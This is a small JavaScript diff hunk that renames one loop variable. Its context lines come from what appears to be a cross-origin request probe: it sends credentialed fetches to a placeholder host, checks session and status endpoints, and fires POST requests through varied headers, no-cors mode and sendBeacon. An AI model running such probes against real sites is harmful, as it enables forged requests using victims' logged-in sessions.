@@ -24,7 +24,7 @@ const attempt = (path, options) => fetch('REELD' + path, { credentials: 'include
   .then(reply => reply.text()).then(text => text && read.push(path), () => {});
 const all = [attempt('/v1/status', {}), attempt('/v1/session', {}), attempt('/', {})];
 for (const path of deeds) {
-  for (const header of headers) all.push(attempt(path, { method: 'POST', body: 'shots: [a]', headers: header }));
+  for (const one of headers) all.push(attempt(path, { method: 'POST', body: 'shots: [a]', headers: one }));
   all.push(attempt(path, { method: 'POST', mode: 'no-cors', body: 'shots: [a]' }));
   all.push(new Promise(end => { navigator.sendBeacon('REELD' + path, 'shots: [a]'); end(); }));
 }
